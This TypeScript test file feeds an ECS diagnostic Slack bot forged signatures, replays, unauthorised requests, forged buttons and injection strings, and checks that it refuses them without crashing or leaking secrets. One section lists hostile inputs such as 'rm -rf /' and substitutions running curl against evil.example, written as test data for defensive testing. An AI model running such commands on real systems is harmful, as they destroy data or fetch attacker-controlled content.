/**
 * The Slack fault suite: the real `slack` handler (Bolt's signature check, the command parser, the access gate, the
 * button checks) fed what an attacker, a flaky network or Slack itself may send — bad signatures, stale and replayed
 * timestamps, retries, unauthorised workspaces, channels and users, double clicks, stale and forged buttons, and
 * command text with injection attempts. Jobs it hands on run through the real `worker` handler (AWS mocked, Slack on
 * a loopback stub), so a replay or a double click is judged by what actually gets posted.
 *
 * Every case asserts: no crash (no throw, no 5xx), a clear message, no duplicate mutation (at most one report per
 * request), no planted secret in any response, Slack call, job or log line. The counts are printed for the README.
 */
import { DescribeServicesCommand, ListTasksCommand } from "@aws-sdk/client-ecs";
import type { Context } from "aws-lambda";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { signValue } from "../../src/actions/sign";
import { handler, setDispatchForTests } from "../../src/handlers/slack";
import { handler as worker, resetWorkerForTests } from "../../src/handlers/worker";
import { resetCredentialsForTests } from "../../src/slack/credentials";
import type { Job } from "../../src/slack/job";
import { sdkService } from "../fixtures/aws";
import { accessConfigFile } from "../helpers/access-config";
import { answerEverything, mockAllClients } from "../helpers/estate";
import { startSlackStub, type SlackStub } from "../helpers/slack-stub";
import {
  NOW,
  PLANTED,
  buttonBody,
  commandBody,
  leakedSecrets,
  nowSeconds,
  sign,
  signed,
  urlEvent,
} from "./slack-harness";

const context = { functionName: "ecs-medic-slack", awsRequestId: "req-1" } as Context;
const mocks = mockAllClients();
let stub: SlackStub;
let jobs: Job[];
let logs: string[];

const ACCESS = `contact: "<!subteam^S0PLATFORM|@platform>"
allow:
  - teams: [T0001]
    channels: [C0INCIDENT]
    commands: [diagnose, rerun, evidence, export]
  - teams: [T0001]
    channels: [C0PAYMENTS]
    clusters: [prod]
    services: ["payment-*"]
    usergroups: [S0PAYONCALL]
  - teams: [T0001]
    channels: [C0STAGING]
    users: [U0ALICE]`;

const counts = { tried: 0, crashes: 0, duplicateMutations: 0, secretsLeaked: 0 };

beforeAll(async () => {
  stub = await startSlackStub();
});
afterAll(async () => {
  await stub.close();
  console.info(
    `Slack fault suite: ${counts.tried} cases tried, ${counts.crashes} crashes, ` +
      `${counts.duplicateMutations} duplicate mutations, ${counts.secretsLeaked} secrets leaked`,
  );
});

beforeEach(() => {
  vi.useFakeTimers({ toFake: ["Date"] });
  vi.setSystemTime(NOW);
  vi.stubEnv("SLACK_SIGNING_SECRET", PLANTED.signingSecret);
  vi.stubEnv("SLACK_BOT_TOKEN", PLANTED.botToken);
  vi.stubEnv("ECS_MEDIC_ACTION_KEY", PLANTED.actionKey);
  vi.stubEnv("AWS_SECRET_ACCESS_KEY", PLANTED.awsSecret);
  vi.stubEnv("AWS_SESSION_TOKEN", PLANTED.awsSession);
  vi.stubEnv("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE");
  vi.stubEnv("SLACK_API_URL", stub.url);
  vi.stubEnv("ECS_MEDIC_TABLE", "");
  vi.stubEnv("ECS_MEDIC_CONFIG", accessConfigFile(ACCESS));
  jobs = [];
  logs = [];
  setDispatchForTests(async (job) => {
    jobs.push(job);
  });
  resetWorkerForTests();
  stub.calls.length = 0;
  for (const m of Object.values(mocks)) m.reset();
  answerEverything(mocks, []);
  mocks.ecs.on(DescribeServicesCommand).resolves({ services: [sdkService()], failures: [] });
  mocks.ecs.on(ListTasksCommand).resolves({ taskArns: [] });
  for (const level of ["log", "info", "warn", "error", "debug"] as const)
    vi.spyOn(console, level).mockImplementation((...args: unknown[]) => {
      logs.push(args.map((a) => (typeof a === "string" ? a : JSON.stringify(a))).join(" "));
    });
});
afterEach(() => {
  vi.useRealTimers();
  vi.unstubAllEnvs();
  vi.restoreAllMocks();
  setDispatchForTests(undefined);
  resetCredentialsForTests();
});

const responseUrl = () => `${stub.responseUrl}/commands/T0001/${Math.random().toString(36).slice(2)}`;
type Event = ReturnType<typeof signed>;

interface Seen {
  readonly statuses: number[];
  /** Response bodies and response_url posts: what the person sees. */
  readonly said: string;
  readonly jobs: Job[];
  /** Reports the worker posted for the dispatched jobs (run concurrently, as Lambda would). */
  readonly posted: number;
  readonly outcomes: string[];
}

/**
 * Sends the events in order, then runs every dispatched job through the real worker at once; records the counts.
 * A throw or a 5xx is a crash; more than one posted report for one request is a duplicate mutation.
 */
async function attempt(events: Event[], options: { runWorker?: boolean } = {}): Promise<Seen> {
  counts.tried += 1;
  const statuses: number[] = [];
  const bodies: string[] = [];
  try {
    for (const event of events) {
      const res = await handler(event, context);
      statuses.push(res.statusCode ?? 200);
      bodies.push(typeof res.body === "string" ? res.body : "");
    }
  } catch (error) {
    counts.crashes += 1;
    throw error;
  }
  if (statuses.some((s) => s >= 500)) counts.crashes += 1;
  const outcomes =
    options.runWorker && jobs.length > 0
      ? (await Promise.all(jobs.map((job) => worker(job)))).map((o) => o.status)
      : [];
  const posted = outcomes.filter((o) => o === "posted").length;
  if (posted > 1) counts.duplicateMutations += 1;
  const replies = stub.calls.filter((c) => c.method.startsWith("response")).map((c) => JSON.stringify(c.args));
  const everything = [
    ...bodies,
    ...stub.calls.map((c) => JSON.stringify(c)),
    ...jobs.map((j) => JSON.stringify(j)),
    ...logs,
  ].join("\n");
  const leaks = leakedSecrets(everything);
  if (leaks.length > 0) counts.secretsLeaked += 1;
  expect(leaks, "planted secrets in the output").toEqual([]);
  expect(statuses.every((s) => s < 500)).toBe(true);
  expect(posted).toBeLessThanOrEqual(1);
  return { statuses, said: [...bodies, ...replies].join("\n"), jobs: [...jobs], posted, outcomes };
}

const command = (text: string, overrides: Record<string, string> = {}) =>
  signed(commandBody(text, responseUrl(), overrides));
const rerunValue = (service = "payment-api", cluster = "prod") =>
  signValue(JSON.stringify({ kind: "rerun", service, cluster, since: "1h" }), PLANTED.actionKey);
const button = (
  actionId: string,
  value: string,
  overrides: { channel?: string; user?: string; trigger?: string } = {},
) => signed(buttonBody(actionId, value, responseUrl(), overrides));

describe("signatures and timestamps", () => {
  const body = () => commandBody("diagnose payment-api prod", responseUrl());
  it.each([
    [
      "signed with another secret",
      () =>
        urlEvent(body(), {
          "x-slack-request-timestamp": String(nowSeconds()),
          "x-slack-signature": sign(body(), nowSeconds(), "not-the-secret"),
        }),
    ],
    ["no signature headers", () => urlEvent(body(), {})],
    [
      "a signature over another body",
      () => {
        const b = body();
        return urlEvent(b.replace("payment-api", "checkout"), {
          "x-slack-request-timestamp": String(nowSeconds()),
          "x-slack-signature": sign(b, nowSeconds()),
        });
      },
    ],
    ["a stale timestamp (10 minutes old), correctly signed", () => signed(body(), {}, nowSeconds() - 600)],
    ["a timestamp 10 minutes in the future, correctly signed", () => signed(body(), {}, nowSeconds() + 600)],
    [
      "a timestamp that is not a number",
      () =>
        urlEvent(body(), { "x-slack-request-timestamp": "yesterday", "x-slack-signature": sign(body(), nowSeconds()) }),
    ],
  ])("%s: 401, nothing dispatched", async (_name, event) => {
    const seen = await attempt([event()]);
    expect(seen.statuses).toEqual([401]);
    expect(seen.jobs).toEqual([]);
  });

  it("a replayed request (the same signed delivery twice) posts one report", async () => {
    const event = command("diagnose payment-api prod");
    const seen = await attempt([event, event], { runWorker: true });
    expect(new Set(seen.jobs.map((j) => j.jobId)).size).toBe(1);
    expect(seen.outcomes.sort()).toEqual(["duplicate", "posted"]);
  });

  it.each([
    ["http_timeout", "1"],
    ["http_error", "2"],
  ])("a Slack retry (X-Slack-Retry-Num, %s) is acked and dropped", async (reason, num) => {
    const first = command("diagnose payment-api prod");
    const retry = { ...first, headers: { ...first.headers, "x-slack-retry-num": num, "x-slack-retry-reason": reason } };
    const seen = await attempt([first, retry], { runWorker: true });
    expect(seen.statuses).toEqual([200, 200]);
    expect(seen.jobs).toHaveLength(1);
    expect(seen.posted).toBe(1);
  });
});

describe("who may ask, where", () => {
  it.each([
    [
      "an unlisted channel",
      { channel_id: "C0RANDOM", channel_name: "random" },
      "diagnose payment-api prod",
      /may not \/ecs diagnose in this channel/,
    ],
    ["another workspace", { team_id: "T0OTHER" }, "diagnose payment-api prod", /not open to this Slack workspace/],
    [
      "a user the channel's entry does not list",
      { channel_id: "C0STAGING", user_id: "U0BOB" },
      "diagnose payment-api prod",
      /not among the people/,
    ],
    [
      "a command the channel does not allow",
      { channel_id: "C0PAYMENTS" },
      "evidence payment-api prod",
      /may not \/ecs evidence|Nobody in this workspace may/,
    ],
    [
      "a service outside the channel's globs",
      { channel_id: "C0PAYMENTS" },
      "diagnose checkout prod",
      /checkout in prod is not among the services/,
    ],
    [
      "no cluster where the entry names clusters",
      { channel_id: "C0PAYMENTS" },
      "diagnose payment-api",
      /Name the cluster/,
    ],
  ])("%s: an ephemeral refusal saying who to ask; nothing dispatched", async (_name, overrides, text, why) => {
    const seen = await attempt([command(text, overrides)]);
    expect(seen.jobs).toEqual([]);
    const body = JSON.parse(seen.said.split("\n")[0]!) as { response_type: string; text: string };
    expect(body.response_type).toBe("ephemeral");
    expect(seen.said).toMatch(why);
    expect(seen.said).toContain("<!subteam^S0PLATFORM|@platform>");
  });

  it("a user-group entry: the front door passes it on, the worker checks the group and refuses privately", async () => {
    const seen = await attempt([command("diagnose payment-api prod", { channel_id: "C0PAYMENTS", user_id: "U0BOB" })], {
      runWorker: true,
    });
    expect(seen.jobs).toHaveLength(1);
    expect(seen.outcomes).toEqual(["failed"]);
    expect(stub.calls.map((c) => c.method)).toEqual(["usergroups.users.list", expect.stringMatching(/^response/)]);
    expect(seen.said).toMatch(/not among the people who may \/ecs diagnose/);
    expect(seen.said).toContain("<!subteam^S0PAYONCALL>");
    expect(mocks.ecs.calls()).toHaveLength(0); // refused before any AWS call
  });

  it.each([
    ["a re-run from an unlisted channel", "ecs_medic_rerun", { channel: "C0RANDOM" }],
    ["an export from a channel that allows only diagnose", "ecs_medic_export", { channel: "C0PAYMENTS" }],
  ])("%s: refused in an ephemeral reply, nothing dispatched", async (_name, actionId, overrides) => {
    const value = signValue(
      JSON.stringify({
        kind: actionId === "ecs_medic_export" ? "export" : "rerun",
        service: "payment-api",
        cluster: "prod",
        since: "1h",
      }),
      PLANTED.actionKey,
    );
    const seen = await attempt([button(actionId, value, overrides)]);
    expect(seen.jobs).toEqual([]);
    expect(seen.said).toMatch(/may not (re-run a diagnosis|export evidence)|Nobody in this workspace/);
  });
});

describe("buttons", () => {
  it("a double click on Re-run starts one diagnosis; the second is told one is running", async () => {
    const seen = await attempt([button("ecs_medic_rerun", rerunValue()), button("ecs_medic_rerun", rerunValue())], {
      runWorker: true,
    });
    expect(seen.jobs).toHaveLength(2);
    expect(seen.outcomes.sort()).toEqual(["busy", "posted"]);
  });

  it.each([
    [
      "a stale button (signed with a rotated key)",
      "ecs_medic_rollback",
      () =>
        signValue(
          '{"kind":"rollback","cluster":"prod","service":"payment-api"}',
          "the-key-before-rotation-000000000000",
        ),
    ],
    ["an unsigned value", "ecs_medic_rerun", () => JSON.stringify({ kind: "rerun", service: "payment-api" })],
    [
      "an altered value with the original signature",
      "ecs_medic_rerun",
      () => rerunValue().replace("payment-api", "billing-api"),
    ],
    [
      "a value of another kind",
      "ecs_medic_rerun",
      () => signValue(JSON.stringify({ kind: "export", service: "payment-api" }), PLANTED.actionKey),
    ],
    [
      "a signed value whose service is not a name",
      "ecs_medic_rerun",
      () => signValue(JSON.stringify({ kind: "rerun", service: "<!channel>" }), PLANTED.actionKey),
    ],
    ["5 KB of garbage", "ecs_medic_scale", () => "\u0000\u202e<@U0ADMIN>".repeat(500)],
    ["an action id ecs-medic does not have", "ecs_medic_delete_cluster", () => rerunValue()],
  ])("%s: refused or unavailable, nothing dispatched", async (_name, actionId, value) => {
    const seen = await attempt([button(actionId, value())]);
    expect(seen.jobs).toEqual([]);
    expect(seen.said).toMatch(/Refused|not available/);
    expect(seen.said).not.toContain("<@U0ADMIN>");
  });
});

describe("command text with injection attempts", () => {
  it.each([
    ["a shell separator", "diagnose payment-api; rm -rf /"],
    ["backticks", "diagnose `curl evil.example`"],
    ["command substitution", "diagnose $(curl evil.example)"],
    ["a user mention", "diagnose <@U0ADMIN>"],
    ["@channel", "diagnose <!channel>"],
    ["@here as the verb", "<!here> payment-api"],
    ["10 KB of text", `diagnose ${"a".repeat(10_240)}`],
    ["an RTL override", "diagnose \u202eipa-tnemyap"],
    ["a zero-width space", "diagnose pay\u200bment-api"],
    ["substitution in --since", "diagnose payment-api --since $(date)"],
    ["a link", "diagnose <https://evil.example|payment-api>"],
  ])("%s: a usage error, nothing dispatched, no mention or link made live", async (_name, text) => {
    const seen = await attempt([command(text)]);
    expect(seen.jobs).toEqual([]);
    const body = JSON.parse(seen.said) as { response_type: string; text: string; blocks: unknown[] };
    expect(body.response_type).toBe("ephemeral");
    expect(body.text).toMatch(/try \/ecs help/);
    for (const live of ["<@U0ADMIN>", "<!channel>", "<!here>", "<https://evil.example"])
      expect(seen.said).not.toContain(live);
  });
});

describe("bodies that are not Slack's", () => {
  it.each([
    ["a signed JSON body", '{"command":"/ecs","text":"diagnose payment-api"}'],
    ["a signed empty body", ""],
    ["a block_actions payload that is not JSON", "payload=%7Bnot-json"],
    ["a form with no command", "team_id=T0001&user_id=U0ONCALL"],
  ])("%s: answered without a crash, nothing dispatched", async (_name, body) => {
    const seen = await attempt([signed(body)]);
    expect(seen.jobs).toEqual([]);
  });
});
